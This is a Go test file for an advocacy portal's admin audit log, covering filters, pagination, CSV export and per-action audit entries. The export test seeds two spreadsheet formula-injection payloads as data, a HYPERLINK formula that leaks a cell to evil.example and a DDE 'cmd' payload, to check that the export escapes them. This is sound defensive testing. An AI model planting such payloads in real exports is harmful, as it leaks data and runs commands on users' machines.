package handlers

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/PuerkitoBio/goquery"

	"github.com/advocacy-portal/portal/internal/account"
	"github.com/advocacy-portal/portal/internal/audit"
)

// seedAudit writes entries a day apart, oldest first, as the given
// personas ("" for the portal itself), and signs admin in afresh.
func (env *testEnv) seedAudit(t *testing.T, entries ...[3]string) {
	t.Helper()
	for _, e := range entries {
		actor := int64(0)
		if e[0] != "" {
			actor = env.users[e[0]].ID
		}
		if err := env.store.LogAudit(context.Background(), actor, e[1], e[2], map[string]int{"n": 1}); err != nil {
			t.Fatal(err)
		}
		env.clock.Advance(24 * time.Hour)
	}
	env.newSession(t, "admin")
}

func TestAuditLogPage(t *testing.T) {
	env := newAdminEnv(t)
	first := env.clock.Now().UTC()
	env.seedAudit(t,
		[3]string{"admin", "settings.change", "setting:four_eyes"},
		[3]string{"hr", "training.export", "training-report"},
		[3]string{"admin", "user.roles", "user:7"},
		[3]string{"", "scim.create", "user:42"},
	)
	day := func(n int) string { return first.Add(time.Duration(n) * 24 * time.Hour).Format(time.DateOnly) }

	tests := []struct {
		name       string
		query      string
		wantStatus int
		wantIDs    []string // audit-N testids, in order
		wantError  string
	}{
		{"everything, newest first", "", 200, []string{"audit-4", "audit-3", "audit-2", "audit-1"}, ""},
		{"actor", "?actor=Test+hr", 200, []string{"audit-2"}, ""},
		{"actor by email", "?actor=admin%40", 200, []string{"audit-3", "audit-1"}, ""},
		{"action", "?action=user.roles", 200, []string{"audit-3"}, ""},
		{"target", "?target=USER%3A", 200, []string{"audit-4", "audit-3"}, ""},
		{"one day", "?from=" + day(1) + "&to=" + day(1), 200, []string{"audit-2"}, ""},
		{"from a day on", "?from=" + day(2), 200, []string{"audit-4", "audit-3"}, ""},
		{"up to a day", "?to=" + day(0), 200, []string{"audit-1"}, ""},
		{"nothing matches", "?actor=nobody", 200, nil, ""},
		{"an action not in the log", "?action=root.everything", 422, nil, "error-action"},
		{"a date that is not one", "?from=yesterday", 422, nil, "error-from"},
		{"a day that does not exist", "?to=2026-02-30", 422, nil, "error-to"},
		{"the last day before the first", "?from=" + day(2) + "&to=" + day(1), 422, nil, "error-to"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			resp := env.do(t, "admin", http.MethodGet, "/admin/audit"+tt.query, nil)
			wantStatus(t, resp, tt.wantStatus)
			doc := mustDoc(t, resp)
			var got []string
			doc.Find(`[data-testid="audit-log"] tbody tr`).Each(func(_ int, s *goquery.Selection) {
				id := attr(t, s, "data-testid")
				got = append(got, id)
			})
			if !reflect.DeepEqual(got, tt.wantIDs) {
				t.Errorf("rows = %v, want %v", got, tt.wantIDs)
			}
			if tt.wantError != "" && !has(doc, tt.wantError) {
				t.Errorf("no %s on the page", tt.wantError)
			}
			if tt.wantStatus == 200 {
				href := attr(t, doc.Find(`[data-testid="export-csv"]`), "href")
				if want := "/admin/audit.csv" + tt.query; tt.query != "" && !sameFilters(t, href, want) {
					t.Errorf("export link = %q, want the same filters as %q", href, want)
				}
			}
		})
	}

	// The action select offers every action in the log.
	doc := mustDoc(t, env.do(t, "admin", http.MethodGet, "/admin/audit", nil))
	var options []string
	doc.Find(`#filter-action option`).Each(func(_ int, s *goquery.Selection) { options = append(options, s.AttrOr("value", "")) })
	if want := []string{"", "scim.create", "settings.change", "training.export", "user.roles"}; !reflect.DeepEqual(options, want) {
		t.Errorf("actions offered = %v, want %v", options, want)
	}
	// The portal itself is named as the actor.
	if got := strings.TrimSpace(doc.Find(`[data-testid="audit-4"] .person-cell`).Text()); got != "The portal" {
		t.Errorf("actor of a portal entry = %q", got)
	}
}

// sameFilters reports whether two addresses have the same path and query
// parameters, in any order.
func sameFilters(t *testing.T, a, b string) bool {
	t.Helper()
	ua, err1 := url.Parse(a)
	ub, err2 := url.Parse(b)
	if err1 != nil || err2 != nil {
		t.Fatalf("parse %q, %q: %v %v", a, b, err1, err2)
	}
	return ua.Path == ub.Path && reflect.DeepEqual(ua.Query(), ub.Query())
}

func TestAuditLogPages(t *testing.T) {
	env := newAdminEnv(t)
	for i := range 120 {
		if err := env.store.LogAudit(context.Background(), env.users["admin"].ID, "x.test", fmt.Sprintf("n:%d", i), nil); err != nil {
			t.Fatal(err)
		}
	}
	tests := []struct {
		query            string
		wantRows         int
		wantFirst        string
		wantPrev, wantNx bool
	}{
		{"", 50, "audit-120", false, true},
		{"?page=2", 50, "audit-70", true, true},
		{"?page=3", 20, "audit-20", true, false},
		{"?page=4", 20, "audit-20", true, false}, // past the end: the last page
		{"?page=-1", 50, "audit-120", false, true},
	}
	for _, tt := range tests {
		t.Run(tt.query, func(t *testing.T) {
			resp := env.do(t, "admin", http.MethodGet, "/admin/audit"+tt.query, nil)
			wantStatus(t, resp, http.StatusOK)
			doc := mustDoc(t, resp)
			rows := doc.Find(`[data-testid="audit-log"] tbody tr`)
			if rows.Length() != tt.wantRows || rows.First().AttrOr("data-testid", "") != tt.wantFirst {
				t.Errorf("rows = %d from %s, want %d from %s", rows.Length(), rows.First().AttrOr("data-testid", ""), tt.wantRows, tt.wantFirst)
			}
			if has(doc, "prev-page") != tt.wantPrev || has(doc, "next-page") != tt.wantNx {
				t.Errorf("prev/next = %t/%t, want %t/%t", has(doc, "prev-page"), has(doc, "next-page"), tt.wantPrev, tt.wantNx)
			}
		})
	}
}

func TestExportAuditLog(t *testing.T) {
	env := newAdminEnv(t)
	ctx := context.Background()
	// Someone whose name a spreadsheet would run as a formula acts as an admin.
	evil, err := env.store.SignIn(ctx, account.Identity{Issuer: "https://idp.test", EmailVerified: true, Subject: "test:evil", Email: "evil@example.com",
		Name: `=HYPERLINK("https://evil.example/?"&A1,"Click")`, Roles: []account.Role{account.Admin}})
	if err != nil {
		t.Fatal(err)
	}
	if err := env.store.LogAudit(ctx, evil.ID, "training.export", "+cmd|' /C calc'!A0", nil); err != nil {
		t.Fatal(err)
	}
	env.seedAudit(t, [3]string{"admin", "user.roles", "user:7"}, [3]string{"hr", "training.export", "training-report"})

	resp := env.do(t, "admin", http.MethodGet, "/admin/audit.csv?action=training.export", nil)
	wantStatus(t, resp, http.StatusOK)
	if ct := resp.Header.Get("Content-Type"); !strings.HasPrefix(ct, "text/csv") {
		t.Errorf("Content-Type = %q", ct)
	}
	if cd := resp.Header.Get("Content-Disposition"); !strings.Contains(cd, "attachment") || !strings.Contains(cd, "audit-log-") {
		t.Errorf("Content-Disposition = %q", cd)
	}
	records, err := csv.NewReader(resp.Body).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{
		{"id", "at", "actor_id", "actor_name", "actor_email", "action", "target", "before", "after"},
		{"3", "", fmt.Sprint(env.users["hr"].ID), "Test hr", "hr@example.com", "training.export", "training-report", "", `{"n":1}`},
		{"1", "", fmt.Sprint(evil.ID), `'=HYPERLINK("https://evil.example/?"&A1,"Click")`, "evil@example.com", "training.export",
			"'+cmd|' /C calc'!A0", "", ""},
	}
	for _, r := range records[1:] {
		if _, err := time.Parse(time.RFC3339, r[1]); err != nil {
			t.Errorf("at = %q: %v", r[1], err)
		}
		r[1] = ""
	}
	if !reflect.DeepEqual(records, want) {
		t.Errorf("CSV =\n%q\nwant\n%q", records, want)
	}

	// The export is audit-logged with what it contained.
	e := newestAuditEntry(t, env)
	if e.Action != "audit.export" || e.ActorID != env.users["admin"].ID || e.Target != "audit-log" ||
		e.After != `{"filters":{"action":true},"rows":2}` {
		t.Errorf("export entry = %+v", e)
	}

	// Filters that are not acceptable export nothing and log nothing.
	n := len(env.auditEntries(t, "audit.export"))
	for _, q := range []string{"?from=nope", "?action=no.such", "?from=2026-05-02&to=2026-05-01"} {
		wantStatus(t, env.do(t, "admin", http.MethodGet, "/admin/audit.csv"+q, nil), http.StatusUnprocessableEntity)
	}
	if got := len(env.auditEntries(t, "audit.export")); got != n {
		t.Errorf("refused exports were logged: %d entries, want %d", got, n)
	}
}

func newestAuditEntry(t *testing.T, env *testEnv) audit.Entry {
	t.Helper()
	log, err := auditLog(context.Background(), env.store, 1)
	if err != nil || len(log) == 0 {
		t.Fatalf("audit log: %v, %d entries", err, len(log))
	}
	return log[0]
}

// TestAdminActionsAuditedOnce checks that each privileged action of the
// admin pages leaves exactly one audit entry, by the acting admin, on the
// right target, with the state before and after.
func TestAdminActionsAuditedOnce(t *testing.T) {
	env := newAdminEnv(t)
	admin, hr := env.users["admin"].ID, env.users["hr"].ID
	target := fmt.Sprintf("user:%d", hr)
	steps := []struct {
		name       string
		method     string
		path       string
		form       url.Values
		wantAction string
		wantTarget string
		wantBefore string
		wantAfter  string
	}{
		{"grant roles", "POST", fmt.Sprintf("/admin/users/%d/roles", hr), url.Values{"role": {"comms", "admin"}}, "user.roles", target,
			`{"manual":[],"roles":["employee","hr"]}`, `{"manual":["comms","admin"],"roles":["employee","hr","comms","admin"]}`},
		{"revoke a role", "POST", fmt.Sprintf("/admin/users/%d/roles", hr), url.Values{"role": {"comms"}}, "user.roles", target,
			`{"manual":["comms","admin"],"roles":["employee","hr","comms","admin"]}`, `{"manual":["comms"],"roles":["employee","hr","comms"]}`},
		{"deactivate", "POST", fmt.Sprintf("/admin/users/%d/deactivate", hr), nil, "user.deactivate", target,
			`{"active":true}`, `{"active":false,"sessions_ended":1}`},
		{"reactivate", "POST", fmt.Sprintf("/admin/users/%d/reactivate", hr), nil, "user.reactivate", target,
			`{"active":false}`, `{"active":true}`},
		{"export the audit log", "GET", "/admin/audit.csv?target=user", nil, "audit.export", "audit-log",
			"", `{"filters":{"target":true},"rows":4}`},
	}
	for _, st := range steps {
		runStep(t, st.name, func(t *testing.T) {
			before, err := auditLog(context.Background(), env.store, 1000)
			if err != nil {
				t.Fatal(err)
			}
			resp := env.do(t, "admin", st.method, st.path, st.form)
			if resp.StatusCode >= 400 {
				t.Fatalf("status %d", resp.StatusCode)
			}
			after, err := auditLog(context.Background(), env.store, 1000)
			if err != nil {
				t.Fatal(err)
			}
			if len(after) != len(before)+1 {
				t.Fatalf("audit entries %d → %d, want exactly one more", len(before), len(after))
			}
			e := after[0]
			if e.Action != st.wantAction || e.ActorID != admin || e.ActorName != "Test admin" || e.Target != st.wantTarget ||
				e.Before != st.wantBefore || e.After != st.wantAfter || !e.At.Equal(env.clock.Now().UTC().Truncate(time.Millisecond)) {
				t.Errorf("entry = %+v\nwant %s by %d on %s, %s → %s", e, st.wantAction, admin, st.wantTarget, st.wantBefore, st.wantAfter)
			}
			for _, js := range []string{e.Before, e.After} {
				if js != "" && !json.Valid([]byte(js)) {
					t.Errorf("not JSON: %s", js)
				}
			}
		})
	}
}
